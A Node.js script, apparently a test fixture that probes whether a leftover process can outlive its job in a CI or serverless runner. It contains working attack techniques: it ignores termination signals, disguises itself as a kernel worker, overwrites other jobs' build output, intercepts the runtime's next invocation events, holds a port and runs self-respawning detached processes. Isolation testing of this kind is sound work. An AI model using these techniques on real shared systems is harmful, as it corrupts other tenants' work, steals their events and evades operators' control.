// What a process can do that outlives its job: change the next job's files, take the next event, answer for the function, keep a port.
const fs = require('node:fs'), http = require('node:http'), net = require('node:net'), { spawn } = require('node:child_process');
const [kind, loot, runtime, own, port] = process.argv.slice(2);
const root = own.slice(0, own.lastIndexOf('/'));

for (const signal of ['SIGTERM', 'SIGHUP', 'SIGINT', 'SIGCONT']) process.on(signal, () => {});
if (kind === 'renamed') process.title = '[kworker/0:1]';
fs.writeFileSync(`${loot}/started/${kind}`, `${process.pid}`);
setTimeout(() => process.exit(), 60_000);

setInterval(() => {
  try {
    for (const job of fs.readdirSync(root)) {
      if (`${root}/${job}` === own || job.endsWith('.lock')) continue;
      fs.writeFileSync(`${root}/${job}/app/dist/result.txt`, `poisoned by ${kind}`);
      fs.appendFileSync(`${loot}/got/${kind}`, 'the next job\n');
    }
  } catch { /* not there yet */ }
}, 2);

(function ask() {
  const again = () => setTimeout(ask, 10);
  http.get(`http://${runtime}/2018-06-01/runtime/invocation/next`, { headers: { 'X-Attack': kind } }, (answer) => {
    if (answer.statusCode === 200) fs.appendFileSync(`${loot}/got/${kind}`, 'the next event\n');
    answer.resume().on('end', again);
  }).on('error', again);
})();

if (kind === 'port') net.createServer().listen(Number(port), '127.0.0.1');
if (kind === 'pair') {
  (function watch() {
    spawn(process.execPath, [__filename, 'paired', ...process.argv.slice(3)], { detached: true, stdio: 'ignore', env: {} }).on('exit', watch);
  })();
}
if (kind === 'paired') {
  const parent = process.ppid;
  setInterval(() => {
    if (process.ppid === parent) return;
    spawn(process.execPath, [__filename, 'pair', ...process.argv.slice(3)], { detached: true, stdio: 'ignore', env: {} });
    process.exit();
  }, 1);
}
